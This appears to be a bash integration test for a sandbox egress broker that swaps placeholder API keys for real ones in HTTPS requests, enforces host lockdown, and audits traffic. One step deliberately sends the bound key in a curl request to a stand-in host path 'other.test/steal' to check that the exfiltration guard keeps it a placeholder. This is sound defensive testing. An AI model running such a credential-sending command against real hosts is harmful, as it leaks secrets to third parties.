#!/bin/bash
# The HTTPS egress data path end to end: the real agent (--no-init, in an
# `ip netns` namespace) runs curl through `miosactl exec`, so it has the
# placeholder in OPENAI_API_KEY and the sandbox CA in its CA-bundle
# variables; the broker terminates TLS with the sandbox's leaf, swaps the
# placeholder, and re-encrypts to a local HTTPS echo upstream (its own test
# CA, trusted through --upstream-ca; reached through --connect-to, verified
# against the mapped name).  Checks: the upstream sees the real key while
# the guest only holds the placeholder; query swap; the exfiltration guard
# (a secret bound to api.openai.test sent to other.test stays a
# placeholder and is flagged); an unbound placeholder passes unchanged;
# rotation takes effect on the next request; an upstream whose certificate
# does not name the host gets 502; audit rows; no secret value in state.db
# or the logs.
#
# Needs root (ip netns) and the agent: a missing one is a failure, never a skip.
set -euo pipefail

BROKER=${MIOSA_BROKER:?MIOSA_BROKER not set}
CTL=${MIOSACTL:?MIOSACTL not set}
ECHO=${ECHO_UPSTREAM:?ECHO_UPSTREAM not set}
AGENT=${MIOSA_INIT:-${MIOSA_BUILD_ROOT:?MIOSA_BUILD_ROOT not set}/guest/miosa-init}

source "$(dirname "$0")/failfast.sh"

dump_logs() {
	dump_tail 40 "$dir"/broker.err "$dir"/agent.log "$dir"/echo.log "$dir"/tail.out "$dir"/tail.err \
		"$dir"/jtail.out "$dir"/jtail.err
}

require_root "ip netns"
require_agent
require_tools ip openssl python3 sqlite3

dir=$(mktemp -d /tmp/miosa-eh.XXXXXX)
ns=miosa-eh-$$
broker_pid=
agent_pid=
echo_pid=
tail_pid=
jtail_pid=
secret_value=sk-live-$(rand_hex 12)
rotated_value=sk-rot-$(rand_hex 12)

cleanup() {
	kill_all $tail_pid $jtail_pid $agent_pid $broker_pid $echo_pid
	netns_del "$ns"
	rm -rf "$dir"
}
trap cleanup EXIT
trap "exit 1" INT TERM

export MIOSA_SOCKET=$dir/state/control.sock

# --- A test CA and the upstream's certificate (api.openai.test, other.test) -----------
upstream_cert "$dir" api.openai.test other.test third.test ||
	fail "openssl could not make the test certificates"

"$ECHO" "$dir/server.pem" "$dir/server.key" "$dir/echo.port" </dev/null >"$dir/echo.log" 2>&1 &
echo_pid=$!
wait_for 20 "the echo upstream" test -s "$dir/echo.port"
port=$(cat "$dir/echo.port")

# bad.test: the same server, whose certificate does not name bad.test.
"$BROKER" --state-dir "$dir/state" --master-key "$dir/master.key" --log-level debug \
	--connect-to "api.openai.test:443:127.0.0.1:$port" \
	--connect-to "other.test:443:127.0.0.1:$port" \
	--connect-to "bad.test:443:127.0.0.1:$port" \
	--connect-to "third.test:443:127.0.0.1:$port" \
	--connect-to "third.test:8443:127.0.0.1:$port" \
	--upstream-ca "$dir/upstream-ca.pem" \
	</dev/null >"$dir/broker.out" 2>"$dir/broker.err" &
broker_pid=$!
wait_for 20 "the broker" grep -q broker_ready "$dir/broker.err"

sbx=$(ctl sandbox create --vsock-uds "$dir/vm.sock")
printf %s "$secret_value" |
	ctl secrets set "$sbx" openai_key --expose-as OPENAI_API_KEY --host api.openai.test >/dev/null
placeholder=$(ctl --json secrets ls "$sbx" | python3 -c \
	'import json,sys; print([b["placeholder"] for b in json.load(sys.stdin)["bindings"] if b["expose_as_env"]=="OPENAI_API_KEY"][0])')
[[ $placeholder =~ ^miosa-tok-[0-9a-f]{32}$ ]] || fail "placeholder '$placeholder'"

netns_add "$ns"
agent_start "$ns" "$dir/vm.sock" "$dir/run" "$dir/agent.log" --log-level debug
agent_pid=$AGENT_PID
wait_for 30 "exec through the agent" exec_works
pass "broker, sandbox, secret bound to api.openai.test, agent connected"

# --- The swap: the upstream sees the value, the guest only the placeholder ------------
out=$(gexec -- sh -c 'curl -sS --max-time 15 https://api.openai.test/v1/models -H "Authorization: Bearer $OPENAI_API_KEY"' 2>"$dir/curl.err") ||
	fail "curl https://api.openai.test/v1/models: $(cat "$dir/curl.err")"
echo "$out" | grep -q "^GET /v1/models HTTP/1.1" || fail "echo: no request line in '$out'"
echo "$out" | grep -qi "^host: api.openai.test" || fail "echo: Host not api.openai.test: '$out'"
echo "$out" | grep -qF "Authorization: Bearer $secret_value" || fail "upstream did not get the real key: '$out'"
gexec -- env | grep -qF "$secret_value" && fail "the secret value reached the guest env"
pass "HTTPS through the sandbox CA: upstream saw 'Authorization: Bearer <real value>'; the guest env has only the placeholder"

out=$(gexec -- sh -c 'curl -sS --max-time 15 "https://api.openai.test/v1/q?api_key=$OPENAI_API_KEY&x=1"') ||
	fail "curl with ?api_key="
echo "$out" | grep -qF "GET /v1/q?api_key=$secret_value&x=1 HTTP/1.1" || fail "query not swapped: '$out'"
pass "?api_key=\$OPENAI_API_KEY swapped in the query"

# Basic credentials: curl -u user:$OPENAI_API_KEY sends base64(user:placeholder);
# upstream must receive base64(user:<real value>).
out=$(gexec -- sh -c 'curl -sS --max-time 15 -u "user:$OPENAI_API_KEY" https://api.openai.test/v1/basic') ||
	fail "curl -u user:\$OPENAI_API_KEY"
basic=$(echo "$out" | tr -d '\r' | sed -n 's/^[Aa]uthorization: Basic //p')
[ -n "$basic" ] || fail "no Basic credentials reached the upstream: '$out'"
[ "$(printf '%s' "$basic" | base64 -d)" = "user:$secret_value" ] ||
	fail "Basic credentials not swapped (upstream decoded to something else)"
pass "Basic auth: upstream decodes user:<real value>; the guest sent user:<placeholder>"

unbound=miosa-tok-0123456789abcdef0123456789abcdef
out=$(gexec -- curl -sS --max-time 15 https://api.openai.test/v1/x -H "X-Key: $unbound") ||
	fail "curl with an unbound placeholder"
echo "$out" | grep -qF "X-Key: $unbound" || fail "unbound placeholder changed: '$out'"
pass "an unbound placeholder passes unchanged (M4)"

# --- Exfiltration guard: bound to api.openai.test, sent to other.test -----------------
out=$(gexec -- sh -c 'curl -sS --max-time 15 https://other.test/steal -H "Authorization: Bearer $OPENAI_API_KEY"') ||
	fail "curl https://other.test/steal"
echo "$out" | grep -qF "Authorization: Bearer $placeholder" || fail "other.test: '$out'"
echo "$out" | grep -qF "$secret_value" && fail "the secret reached other.test"
pass "the same placeholder sent to other.test is NOT swapped (B1)"

# --- Rotation: the next request carries the new value, no agent restart ---------------
printf %s "$rotated_value" | ctl secrets rotate "$sbx" openai_key >/dev/null
out=$(gexec -- sh -c 'curl -sS --max-time 15 https://api.openai.test/v1/models -H "Authorization: Bearer $OPENAI_API_KEY"') ||
	fail "curl after rotate"
echo "$out" | grep -qF "Authorization: Bearer $rotated_value" || fail "after rotate: '$out'"
pass "rotate: the next request carries the new value (M5)"

# --- Upstream verification against the mapped name ------------------------------------
out=$(gexec -- curl -sS -i --max-time 15 https://bad.test/ 2>&1) || true
echo "$out" | grep -q "^HTTP/1.1 502" || fail "bad.test (certificate without its name): '$out'"
echo "$out" | grep -qi "^MIOSA-Upstream-Error: tls-verify-failed" || fail "bad.test reason: '$out'"
pass "an upstream whose certificate does not name the host: 502 MIOSA-Upstream-Error: tls-verify-failed"

# --- Enforce: lockdown keeps observed hosts, blocks new ones with a readable 403 --------
# Through the control API: the broker caches each sandbox's policy and counts
# observed hosts in memory, and its network routes are what invalidate the
# one and flush the other (a second SQLite writer such as policy_tool is not
# seen by a running broker).
ctl network lockdown "$sbx" >/dev/null || fail "lockdown"
out=$(gexec -- curl -sS --max-time 15 https://api.openai.test/after-lockdown) || fail "observed host after lockdown"
echo "$out" | grep -q "^GET /after-lockdown" || fail "observed host after lockdown: '$out'"
out=$(gexec -- curl -sS -i --max-time 15 https://third.test/blocked 2>&1) || true
echo "$out" | grep -q "^HTTP/1.1 403" || fail "third.test in enforce mode: '$out'"
echo "$out" | grep -qi "^MIOSA-Egress-Deny: host-not-allowed" || fail "deny header: '$out'"
echo "$out" | grep -qF "miosactl network allow $sbx third.test" || fail "deny body: '$out'"
pending=$(ctl --json network pending "$sbx" 2>&1) || fail "pending: $pending"
python3 -c 'import json, sys; d = json.load(sys.stdin)
sys.exit(0 if any(h["host"] == "third.test" and h["port"] == 443 for h in d["pending"]) else 1)' \
	<<<"$pending" || fail "third.test not pending: '$pending'"
# Other TCP ports: the agent only captures the HelloAck's listen ports (80,
# 443), so the EgressOpen for port 8443 is spoken by hand on the wire.
third_addr=$(ip netns exec "$ns" getent hosts third.test | awk '{print $1}')
[[ $third_addr =~ ^198\.1[89]\. ]] || fail "third.test -> '$third_addr'"
tcp_open() { # tcp_open expect_ok|expect_refused
	python3 - "$dir/vm.sock_1024" "$third_addr" "$1" "$dir/upstream-ca.pem" <<'PY'
import socket, ssl, struct, sys
path, addr, want, ca = sys.argv[1:5]
def field(num, data): return bytes([num << 3 | 2, len(data)]) + data
def varint(n):
    out = b""
    while True:
        b = n & 0x7f; n >>= 7
        if n: out += bytes([b | 0x80])
        else: return out + bytes([b])
eg = field(1, bytes(int(x) for x in addr.split("."))) + b"\x10" + varint(8443)
payload = field(2, eg)
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); s.settimeout(15); s.connect(path)
s.sendall(struct.pack(">I", len(payload)) + payload)
hdr = b""
while len(hdr) < 4: hdr += s.recv(4 - len(hdr))
n = struct.unpack(">I", hdr)[0]
res = b""
while len(res) < n: res += s.recv(n - len(res))
if want == "expect_refused":
    assert res[:2] == b"\x08\x02" and b"host-not-allowed" in res, res
    print("refused host-not-allowed"); sys.exit(0)
assert res[:2] == b"\x08\x01", res
ctx = ssl.create_default_context(cafile=ca)
ctx.set_alpn_protocols(["imap"])  # not http/1.1: spliced, not intercepted
t = ctx.wrap_socket(s, server_hostname="third.test")
t.sendall(b"GET /raw HTTP/1.1\r\nHost: third.test:8443\r\nConnection: close\r\n\r\n")
body = b""
while b"GET /raw HTTP/1.1" not in body:  # the echo server keeps the connection
    c = t.recv(65536)
    if not c: break
    body += c
t.close()
assert b"GET /raw HTTP/1.1" in body, body
print("relayed")
PY
}
out=$(tcp_open expect_refused 2>&1) || fail "TCP EgressOpen to third.test:8443 in enforce mode: $out"
pass "lockdown: observed host works; a new host gets 403 MIOSA-Egress-Deny host-not-allowed (naming the allow command), is pending; other TCP is refused at open"

ctl network allow "$sbx" third.test >/dev/null || fail "allow third.test"
out=$(gexec -- curl -sS --max-time 15 https://third.test/now-allowed) || fail "third.test after allow"
echo "$out" | grep -q "^GET /now-allowed" || fail "third.test after allow: '$out'"
# other TCP: raw relay, end-to-end TLS from the test to the echo server
out=$(tcp_open expect_ok 2>&1) || fail "TCP relay to third.test:8443: $out"
pass "allow third.test: the next request goes through; other TCP is relayed"

# --- A request whose sizes the test knows: its row is completed, tailed live ----------
# The tail streams from the broker's audit writer: started before the
# request, it is subscribed once the broker logged the route (the access
# line comes after the subscription), and must print the request with its
# status (HTTP 200, from the completion), not "HTTP -".
"$CTL" audit tail --lines 0 --sandbox "$sbx" --host api.openai.test \
	>"$dir/tail.out" 2>"$dir/tail.err" &
tail_pid=$!
"$CTL" --json audit tail --lines 0 --sandbox "$sbx" --host api.openai.test \
	>"$dir/jtail.out" 2>"$dir/jtail.err" &
jtail_pid=$!
tails_up() { [ "$(grep -c 'path=/v1/audit/tail status=200' "$dir/broker.err")" -ge 2 ]; }
wait_for 10 "both audit tails to subscribe" tails_up
# 11 request body bytes; the response body is the echoed head, counted here.
gexec -- curl -sS --max-time 15 https://api.openai.test/known-size -d hello-audit \
	>"$dir/known.out" || fail "curl /known-size"
wait_for 10 "the tail to print /known-size" grep -q '\[audit\] allow api.openai.test HTTP 200 secrets=none' "$dir/tail.out"
[ "$(grep -c '\[audit\]' "$dir/tail.out")" = 1 ] || fail "tail printed other rows: $(cat "$dir/tail.out" "$dir/tail.err")"
wait_for 10 "the --json tail to print /known-size" grep -q '"path":"/known-size"' "$dir/jtail.out"
python3 -c '
import json, sys
rows = [json.loads(l) for l in open(sys.argv[1]) if l.strip()]
assert len(rows) == 1, rows
r = rows[0]
assert (r["path"], r["status"], r["bytes_up"]) == ("/known-size", 200, 11), r
assert r["completion_id"] > r["id"], r
' "$dir/jtail.out" || fail "--json tail: $(cat "$dir/jtail.out" "$dir/jtail.err")"
kill "$tail_pid" "$jtail_pid" 2>/dev/null || true
wait "$tail_pid" "$jtail_pid" 2>/dev/null || true
tail_pid=
jtail_pid=
pass "miosactl audit tail (and --json), started before the request, streams it live with its status: $(cat "$dir/tail.out")"
known_down=$(wc -c <"$dir/known.out" | tr -d ' ')
[ "$known_down" -gt 0 ] || fail "empty /known-size answer"

# --- Audit rows and no secret value at rest -------------------------------------------
db=$dir/state/state.db
q() { sqlite3 -readonly "file:$db?mode=ro" "$1"; }
# Completions are submitted without waiting (after the answer was relayed):
# wait for this one to commit, with a deadline.
completed() { q "SELECT c.status || ' ' || c.bytes_up || ' ' || c.bytes_down || ' ' || (c.duration_us > 0) FROM audit_rows r JOIN audit_completions c ON c.request_id = r.id WHERE r.path = '/known-size'"; }
wait_for 10 "the /known-size completion" test -n "$(completed)"
[ "$(completed)" = "200 11 $known_down 1" ] || fail "/known-size completion '$(completed)', want '200 11 $known_down 1'"
out=$(ctl --json audit ls --host api.openai.test --status 200) || fail "audit ls --status 200"
printf '%s' "$out" | python3 -c '
import json, sys
rows = [r for r in json.load(sys.stdin)["rows"] if r["path"] == "/known-size"]
assert len(rows) == 1, rows
r = rows[0]
assert (r["status"], r["bytes_up"], r["bytes_down"]) == (200, 11, int(sys.argv[1])), r
assert r["duration_us"] > 0 and r["completion_id"] > r["id"], r
' "$known_down" || fail "audit ls --json for /known-size: $out"
out=$(ctl audit verify) || fail "audit verify with completions: $out"
pass "a relayed request's row is completed: status 200, bytes up 11 / down $known_down, duration; audit ls --json merges it; the chain (rows + completions) verifies"
n=$(q "SELECT count(*) FROM audit_rows WHERE sandbox_id='$sbx' AND host='api.openai.test' AND scheme='https' AND action='allow' AND secrets_swapped='openai_key'")
[ "$n" -ge 3 ] || fail "audit rows with secrets swapped = openai_key: $n"
n=$(q "SELECT count(*) FROM audit_rows WHERE host='other.test' AND secrets_flagged='openai_key' AND secrets_swapped=''")
[ "$n" = 1 ] || fail "other.test row flagged openai_key: $n"
path=$(q "SELECT path FROM audit_rows WHERE path LIKE '/v1/q%'")
[ "$path" = "/v1/q?api_key=REDACTED&x=1" ] || fail "audit path '$path'"
n=$(q "SELECT count(*) FROM audit_rows WHERE host='third.test' AND port=443 AND action='deny' AND status=403 AND scheme='https'")
[ "$n" = 1 ] || fail "deny row for third.test:443: $n"
n=$(q "SELECT count(*) FROM audit_rows WHERE host='third.test' AND port=8443 AND action='deny' AND scheme='tcp'")
[ "$n" = 1 ] || fail "deny row for TCP third.test:8443: $n"
wait_for 10 "the TCP row's completion at close" test "$(q "SELECT count(*) FROM audit_rows r JOIN audit_completions c ON c.request_id = r.id WHERE r.host='third.test' AND r.port=8443 AND r.action='allow' AND r.scheme='tcp' AND c.bytes_up > 0 AND c.bytes_down > 0")" = 1
# The upstream failed (502 from the broker) and the denial (403): completed too.
wait_for 10 "the bad.test completion" test "$(q "SELECT c.status FROM audit_rows r JOIN audit_completions c ON c.request_id = r.id WHERE r.host='bad.test'")" = 502
wait_for 10 "the third.test:443 deny completion" test "$(q "SELECT c.status || ' ' || (c.bytes_down > 0) FROM audit_rows r JOIN audit_completions c ON c.request_id = r.id WHERE r.host='third.test' AND r.port=443 AND r.action='deny'")" = "403 1"
pass "audit rows: swapped=openai_key on api.openai.test, flagged on other.test, query redacted, 403 deny (completed with its answer's bytes), upstream failure completed as 502, TCP deny and TCP allow (bytes) rows"

for v in "$secret_value" "$rotated_value"; do
	grep -aqF "$v" "$dir"/state/state.db* && fail "a secret value is in state.db"
	grep -qF "$v" "$dir"/broker.err "$dir"/agent.log && fail "a secret value was logged"
done
pass "no secret value in state.db (+WAL) or the logs"

kill -TERM "$broker_pid"
wait "$broker_pid" || fail "broker exited with status $? on SIGTERM"
broker_pid=
echo "ALL OK ($npass checks)"
